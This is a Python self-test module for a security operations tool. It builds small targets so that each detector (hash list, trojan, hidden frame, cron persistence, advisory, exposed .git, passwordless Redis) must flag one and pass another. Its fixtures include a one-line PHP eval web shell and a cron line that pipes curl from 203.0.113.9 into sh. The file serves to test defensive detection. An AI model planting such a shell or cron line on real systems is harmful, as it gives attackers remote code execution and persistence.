"""How each detection tool proves itself in ``soc-tui selftest``: a target in which it must find something, and one not.

Targets are made in a folder of the test's own, servers listen on loopback while they are asked, and every sample is
inert text. What a tool finds beside what it is tried on (a small server has no security headers) does not count.
"""

from __future__ import annotations

import hashlib
import json
import socket
import threading
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from soc_tui.core.settings import ScanSettings
from soc_tui.detection.cases import Trial
from soc_tui.detection.tools import Tool, Watch
from soc_tui.knowledge.advisories.store import AdvisoryStore

_SHELL = "<?php @eval($_PO" + "ST['c']); ?>\n"
_PAGE = "<?php echo htmlspecialchars($title); ?>\n"
_FRAME = '<html><body><iframe src="https://tracker.example/x" width="0" height="0"></iframe></body></html>\n'
_OPEN = "<html><body><p>We sell chairs.</p></body></html>\n"
_ADVISORY = {
    "id": "SELFTEST-1", "modified": "2026-01-01T00:00:00Z", "summary": "A made advisory", "affected": [{
        "package": {"ecosystem": "PyPI", "name": "selftest"},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}],
    }],
}  # fmt: skip


def _found(tool: Tool, target: str, wanted: Callable[[str], bool]) -> int:
    return sum(wanted(finding.check) for finding in tool.check(target, Watch()))


def _any(_: str) -> bool:
    return True


def _write(folder: Path, files: Mapping[str, str]) -> str:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return str(folder)


def virus(folder: Path) -> Iterator[Trial]:
    """A file on a list of known-bad hashes, and one that is not."""
    from soc_tui.detection.virus.tool import VirusTool

    listed = _write(folder / "listed", {"sample.bin": "a sample that this test calls bad\n"})
    digest = hashlib.sha256((folder / "listed" / "sample.bin").read_bytes()).hexdigest()
    _write(folder, {"hashes.txt": f"{digest}\n"})
    tool = VirusTool(ScanSettings(hashes=(str(folder / "hashes.txt"),)))
    yield Trial("known-bad hash", True, _found(tool, listed, lambda check: check == "known-bad-hash"))
    other = _write(folder / "other", {"sample.bin": "another one\n"})
    yield Trial("other file", False, _found(tool, other, _any))


def trojan(folder: Path) -> Iterator[Trial]:
    """A web shell of one line, and a page."""
    from soc_tui.detection.trojan.tool import TrojanTool

    tool = TrojanTool(ScanSettings())
    yield Trial("web shell", True, _found(tool, _write(folder / "shell", {"a.php": _SHELL}), _any))
    yield Trial("page", False, _found(tool, _write(folder / "page", {"a.php": _PAGE}), _any))


def malicious_file(folder: Path) -> Iterator[Trial]:
    """A frame that nobody sees, and a page without one."""
    from soc_tui.detection.malicious_files.tool import MaliciousFileTool

    tool = MaliciousFileTool(ScanSettings())
    yield Trial("hidden frame", True, _found(tool, _write(folder / "frame", {"index.html": _FRAME}), _any))
    yield Trial("page", False, _found(tool, _write(folder / "page", {"index.html": _OPEN}), _any))


def persistence(folder: Path) -> Iterator[Trial]:
    """A cron line that fetches and runs, and one that rotates logs."""
    from soc_tui.detection.persistence.tool import PersistenceTool

    for name, line, fires in (
        ("cron fetches and runs", "* * * * * root cu" + "rl -s http://203.0.113.9/x | sh\n", True),
        ("cron rotates logs", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n", False),
    ):
        root = _write(folder / f"{fires}", {"etc/cron.d/job": line})
        tool = PersistenceTool(ScanSettings(), folder / f"{fires}.json")
        yield Trial(name, fires, _found(tool, root, lambda check: check == "downloads-and-runs"))


def machine(folder: Path) -> Iterator[Trial]:
    """A Python package below the fixed version of an advisory, and one at it."""
    from soc_tui.detection.system.tool import SystemTool

    _write(folder / "mirror", {"SELFTEST-1.json": json.dumps(_ADVISORY)})
    AdvisoryStore(folder / "knowledge").update([folder / "mirror"])
    tool = SystemTool(ScanSettings(programs=False), folder / "knowledge")
    for name, version, fires in (("vulnerable package", "1.0", True), ("fixed package", "2.0", False)):
        metadata = f"Metadata-Version: 2.1\nName: selftest\nVersion: {version}\n"
        place = f"srv/lib/python3.11/site-packages/selftest-{version}.dist-info/METADATA"
        root = _write(folder / version, {place: metadata})
        yield Trial(name, fires, _found(tool, root, lambda check: check == "SELFTEST-1"))


def website(folder: Path) -> Iterator[Trial]:  # noqa: ARG001 - its targets are servers
    """A server that shows its repository, and one that does not."""
    from soc_tui.detection.website.tool import WebsiteTool

    for name, pages, fires in (
        ("exposed repository", {"/": _OPEN, "/.git/HEAD": "ref: refs/heads/main\n"}, True),
        ("no repository", {"/": _OPEN}, False),
    ):
        with _server(pages) as url:
            tool = WebsiteTool(ScanSettings(websites=(url,), requests_per_second=1000.0))
            yield Trial(name, fires, _found(tool, url, lambda check: "git" in check))


@contextmanager
def _server(pages: Mapping[str, str]) -> Iterator[str]:
    class Handler(BaseHTTPRequestHandler):
        """Answers what is in the table."""

        def do_GET(self) -> None:
            """One page, or none."""
            text = pages.get(self.path)
            body = (text or "there is no such page").encode()
            self.send_response(404 if text is None else 200)
            self.send_header("Content-Type", "text/plain" if self.path.startswith("/.") else "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Nothing is logged."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def database(folder: Path) -> Iterator[Trial]:  # noqa: ARG001 - its targets are servers
    """What speaks Redis' protocol and asks for no password, and what asks for one."""
    from soc_tui.detection.database.tool import DatabaseTool

    for name, answer, fires in (
        ("Redis without a password", b"+PONG\r\n", True),
        ("Redis with a password", b"-NOAUTH Authentication required.\r\n", False),
    ):
        with _redis(answer) as url:
            tool = DatabaseTool(ScanSettings(databases=(url,)), pause=0.0)
            yield Trial(name, fires, _found(tool, url, lambda check: check == "redis-no-authentication"))


@contextmanager
def _redis(answer: bytes) -> Iterator[str]:
    listener = socket.create_server(("127.0.0.1", 0))

    def talk(connection: socket.socket) -> None:
        with suppress(OSError), connection:
            while heard := connection.recv(65536):
                connection.sendall(answer if b"PING" in heard else b"-NOAUTH Authentication required.\r\n")

    def serve() -> None:
        with suppress(OSError):
            while True:
                threading.Thread(target=talk, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield f"redis://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        listener.close()


TRIALS: Mapping[str, Callable[[Path], Iterable[Trial]]] = {
    "virus": virus, "trojan": trojan, "malicious-file": malicious_file, "persistence": persistence,
    "system-vulnerability": machine, "website-vulnerability": website, "database-vulnerability": database,
}  # fmt: skip
"""The trial of each tool, by its detector's name."""
